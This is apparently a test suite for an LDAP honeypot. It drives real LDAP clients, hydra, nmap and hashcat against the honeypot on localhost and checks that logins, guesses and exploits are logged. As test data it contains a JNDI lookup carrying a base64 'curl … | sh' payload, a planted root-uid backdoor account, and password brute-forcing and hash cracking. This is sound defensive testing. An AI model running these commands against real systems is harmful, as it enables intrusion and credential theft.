import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import dgram from 'node:dgram'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { after, before, describe, test } from 'node:test'
import type { Event } from '#events/event.ts'
import { BASE, message, searchOp } from '#services/ldap/testing.ts'
import { driver, installDrivers } from '../drivers.ts'
import { crack } from '../hashcat.ts'
import { missing, runClient, type Skep, startSkep } from '../skep.ts'

type Login = Event & { user?: { name: string }; skep: { login: { password?: string; hash?: string; method: string } } }
const ofAction = (action: string) => (event: Event) => event.skep.service === 'ldap' && event.event.action === action
const byMethod = (method: string, user?: string) => (event: Event) =>
  ofAction('login')(event) &&
  (event as Login).skep.login.method === method &&
  (user === undefined || (event as Login).user?.name === user)

const S = 'dc=hayase-works,dc=example'
const ADMIN = `cn=admin,${S}`
const python = ['/usr/bin/python3', 'python3'].find(program => spawnSync(program, ['-c', 'import ldap3']).status === 0)

describe('LDAP, with real clients', () => {
  let skep: Skep
  let port: string
  let home: string
  let words: string
  before(async () => {
    home = fs.mkdtempSync(path.join(os.tmpdir(), 'ldap-clients-'))
    words = path.join(home, 'words')
    fs.writeFileSync(words, 'alpha\nbeta\ns3cr3t\n')
    skep = await startSkep({
      config:
        'persona: { os: debian-12, hostname: relay3, domain: hayase-works.example }\nservices: { ldap: { access: { rules: ["admin:s3cr3t"], otherwise: refuse } } }\n',
    })
    port = String(skep.port('ldap'))
  })
  after(async () => {
    await skep?.stop()
    if (home) fs.rmSync(home, { recursive: true })
  })
  const url = (tls = false) => `ldap${tls ? 's' : ''}://127.0.0.1:${skep.port('ldap', { tls })}`
  const admin = ['-D', ADMIN, '-w', 's3cr3t']
  const run = async (program: string, args: string[], input = '') => {
    const { out, err } = await runClient('env', ['LDAPTLS_REQCERT=never', program, ...args], { input })
    return out + err
  }

  describe('OpenLDAP’s tools', { skip: missing('ldapsearch', 'ldapwhoami', 'ldapadd', 'ldappasswd') }, () => {
    test('read the root DSE, the schema and the people', async () => {
      const dse = await run('ldapsearch', ['-x', '-LLL', '-H', url(), '-s', 'base', '-b', '', '+'])
      assert.match(dse, /^namingContexts: dc=hayase-works,dc=example$/m)
      assert.match(dse, /^supportedSASLMechanisms: NTLM$/m)
      assert.doesNotMatch(dse, /PLAIN|honey|skep/i)
      const schema = await run('ldapsearch', [
        '-x',
        '-LLL',
        '-H',
        url(),
        '-s',
        'base',
        '-b',
        'cn=Subschema',
        'objectClasses',
      ])
      assert.match(schema, /NAME 'inetOrgPerson'/)
      const people = await run('ldapsearch', [
        '-x',
        '-LLL',
        '-H',
        url(),
        '-b',
        S,
        '(objectClass=posixAccount)',
        'uid',
        'userPassword',
      ])
      assert.match(people, /^uid: \w+$/m)
      assert.doesNotMatch(people, /userPassword/)
      const line = (event: Event) =>
        ofAction('command')(event) && JSON.stringify(event).includes('filter=\\"(objectClass=posixAccount)\\"')
      await skep.eventually(line)
    })
    test('go over to TLS, and find other mechanisms there', async () => {
      assert.equal(await run('ldapwhoami', ['-ZZ', '-x', '-H', url(), ...admin]), `dn:${ADMIN}\n`)
      const dse = await run('ldapsearch', [
        '-x',
        '-LLL',
        '-H',
        url(true),
        '-s',
        'base',
        '-b',
        '',
        'supportedSASLMechanisms',
      ])
      assert.match(dse, /PLAIN/)
    })
    test('page through everything as the administrator, hashes included', async () => {
      const out = await run('ldapsearch', [
        '-x',
        '-LLL',
        '-E',
        'pr=2/noprompt',
        '-H',
        url(),
        ...admin,
        '-b',
        S,
        'userPassword',
      ])
      assert.ok(out.match(/^dn: /gm)!.length >= 9, out)
      assert.match(out, /^userPassword:: e1NTSEF9/m)
    })
    test('leave an account with a password, and come back by it', async () => {
      const dn = `uid=support,ou=people,${S}`
      const ldif = `dn: ${dn}\nobjectClass: account\nobjectClass: posixAccount\nuid: support\ncn: support\nuidNumber: 0\ngidNumber: 0\nhomeDirectory: /root\n`
      assert.match(await run('ldapadd', ['-x', '-H', url(), ...admin], ldif), /adding new entry/)
      assert.equal(await run('ldappasswd', ['-x', '-H', url(), ...admin, '-s', 'backdoor1', dn]), '')
      assert.equal(await run('ldapwhoami', ['-x', '-H', url(), '-D', dn, '-w', 'backdoor1']), `dn:${dn}\n`)
      const [change] = await skep.eventually(
        event => ofAction('account-change')(event) && JSON.stringify(event).includes('backdoor1'),
      )
      assert.ok(change)
      assert.match(await run('ldapdelete', ['-x', '-H', url(), ...admin, `ou=people,${S}`]), /not allowed on non-leaf/i)
    })
    test('hears what is wrong in slapd’s words', async () => {
      const out = await run(
        'ldapmodify',
        ['-x', '-H', url(), ...admin],
        `dn: ou=people,${S}\nchangetype: modify\nadd: mail\nmail: x\n`,
      )
      assert.match(out, /Object class violation \(65\)\n\s+additional info: attribute 'mail' not allowed/)
      assert.match(
        await run('ldapsearch', ['-x', '-H', url(), '-b', 'nonsense']),
        /34 Invalid DN syntax\ntext: invalid DN/,
      )
    })
  })

  const sasl = (mechanism: string, user: string) =>
    run('ldapwhoami', ['-Y', mechanism, '-U', user, '-w', 'beta', '-H', url()])
  for (const [mechanism, mode] of [
    ['CRAM-MD5', 10_200],
    ['NTLM', 5500],
  ] as const)
    test(`${mechanism}'s answer cracks`, { skip: missing('ldapwhoami', 'hashcat') }, async () => {
      const user = `crack-${mode}`
      assert.match(await sasl(mechanism, user), /Invalid credentials \(49\)|no mechanism/)
      const [login] = (await skep.eventually(
        event => ofAction('login')(event) && ((event as Login).user?.name ?? '').includes(user),
      )) as Login[]
      assert.match(await crack(mode, login!.skep.login.hash!, ['alpha', 'beta']), /:beta$/m)
    })

  test('Python’s ldap3', { skip: python ? false : 'python3-ldap3 not installed' }, async () => {
    const program = `
from ldap3 import *
s = Server('127.0.0.1', port=${port}, get_info=ALL)
c = Connection(s, '${ADMIN}', 's3cr3t'); assert c.bind(), c.result
assert s.info.naming_contexts == ['${S}'] and 'inetOrgPerson' in s.schema.object_classes
assert c.search('${S}', '(&(objectClass=posixAccount)(!(uid=nobody*)))', attributes=ALL_ATTRIBUTES) and c.entries
assert c.extend.standard.who_am_i() == 'dn:${ADMIN}'
assert len(list(c.extend.standard.paged_search('${S}', '(objectClass=*)', paged_size=3))) >= 9
assert c.add('cn=py,ou=groups,${S}', 'posixGroup', {'gidNumber': 77, 'memberUid': ['a', 'b']}), c.result
assert c.modify('cn=py,ou=groups,${S}', {'memberUid': [(MODIFY_DELETE, ['a'])]}), c.result
assert c.compare('cn=py,ou=groups,${S}', 'memberUid', 'b')
assert c.modify_dn('cn=py,ou=groups,${S}', 'cn=py2'), c.result
assert c.delete('cn=py2,ou=groups,${S}'), c.result
assert not Connection(s, '${ADMIN}', 'wrong').bind()
assert not Connection(s, 'DOM\\\\user', 'pw', authentication=NTLM).bind()
c = Connection(s, sasl_mechanism=DIGEST_MD5, authentication=SASL, sasl_credentials=(None, 'digest', 'pw', None)); assert not c.bind()
c = Connection(s, '${ADMIN}', 's3cr3t'); c.open(); c.start_tls(); assert c.bind(); c.unbind()
print('fine')
`
    const { out, err } = await runClient(python!, ['-W', 'ignore', '-c', program])
    assert.equal(out, 'fine\n', err)
    const [digest] = (await skep.eventually(byMethod('DIGEST-MD5', 'digest'))) as Login[]
    assert.match(digest!.skep.login.hash!, /^\$DIGEST-MD5\$digest\$relay3\.hayase-works\.example\$/)
  })

  const without = installDrivers()
  test('ldapts of npm', { skip: without }, async () => {
    type Client = {
      bind(dn: string, password: string): Promise<void>
      search(base: string, options: object): Promise<{ searchEntries: { dn: string; uid?: string }[] }>
      add(dn: string, entry: object): Promise<void>
      del(dn: string): Promise<void>
      unbind(): Promise<void>
    }
    const { Client } = driver<{ Client: new (options: object) => Client }>('ldapts')
    const client = new Client({ url: url(true), tlsOptions: { rejectUnauthorized: false } })
    await assert.rejects(client.bind(ADMIN, 'wrong'), /0x31|Invalid/)
    await client.bind(ADMIN, 's3cr3t')
    const { searchEntries } = await client.search(S, {
      scope: 'sub',
      filter: '(|(uid=*)(cn=staff))',
      paged: { pageSize: 2 },
    })
    assert.ok(
      searchEntries.some(({ dn }) => dn === `cn=staff,ou=groups,${S}`),
      JSON.stringify(searchEntries),
    )
    await client.add(`ou=npm,${S}`, { objectClass: 'organizationalUnit', ou: 'npm' })
    await client.del(`ou=npm,${S}`)
    await client.unbind()
  })

  for (const version of ['ldap2', 'ldap3'])
    test(`hydra guesses over ${version}, and each guess is recorded`, { skip: missing('hydra') }, async () => {
      const user = `cn=${version},${S}`
      const args = ['-l', user, '-P', words, '-t', '1', '-I', '-s', port, '127.0.0.1', version]
      await runClient('hydra', args, { seconds: 120 })
      const logins = (await skep.eventually(byMethod('simple', user), 3)) as Login[]
      const tried = new Set(logins.map(event => event.skep.login.password))
      for (const word of ['alpha', 'beta', 's3cr3t']) assert.ok(tried.has(word), word)
    })
  test('hydra finds the administrator’s', { skip: missing('hydra') }, async () => {
    const { out } = await runClient('hydra', [
      '-l',
      ADMIN,
      '-P',
      words,
      '-t',
      '1',
      '-I',
      '-s',
      port,
      '127.0.0.1',
      'ldap3',
    ])
    assert.match(out, /\[ldap3\] host: 127\.0\.0\.1 +login: cn=admin,dc=hayase-works,dc=example +password: s3cr3t/)
  })

  test('nmap sees OpenLDAP, and its scripts what they see of it', { skip: missing('nmap') }, async () => {
    fs.writeFileSync(path.join(home, 'users'), 'admin\n')
    const scripts = ['--script', 'ldap-rootdse,ldap-search,ldap-brute']
    const given = ['--script-args', `ldap.base="${S}",userdb=${path.join(home, 'users')},passdb=${words}`]
    const { out } = await runClient('nmap', ['-Pn', '-n', '-sV', '-p', port, ...scripts, ...given, '127.0.0.1'], {
      seconds: 200,
    })
    assert.match(out, /open +ldap +OpenLDAP/)
    assert.match(out, /ldap-rootdse:[\s\S]*namingContexts: dc=hayase-works,dc=example/)
    assert.match(out, /ldap-search:[\s\S]*dn: ou=people,dc=hayase-works,dc=example/)
    assert.doesNotMatch(out, /honey|skep/i)
  })

  test('a JNDI client’s look-up is an exploit', { skip: missing('ldapsearch') }, async () => {
    const command = Buffer.from('curl http://192.0.2.66/l.sh | sh').toString('base64')
    await run('ldapsearch', ['-x', '-H', url(), '-s', 'base', '-a', 'always', '-b', `Basic/Command/Base64/${command}`])
    await skep.eventually(ofAction('exploit'))
    const [download] = await skep.eventually(ofAction('file-download'))
    assert.equal((download as { url?: { original: string } }).url?.original, 'http://192.0.2.66/l.sh')
  })

  test('a question by datagram is counted and not answered', async () => {
    const socket = dgram.createSocket('udp4')
    let answered = false
    socket.on('message', () => {
      answered = true
    })
    socket.send(Buffer.from(message(1, searchOp({ base: '', scope: BASE })), 'latin1'), Number(port), '127.0.0.1')
    await skep.eventually(event => ofAction('command')(event) && JSON.stringify(event).includes('CLDAP'))
    socket.close()
    assert.equal(answered, false)
  })
})
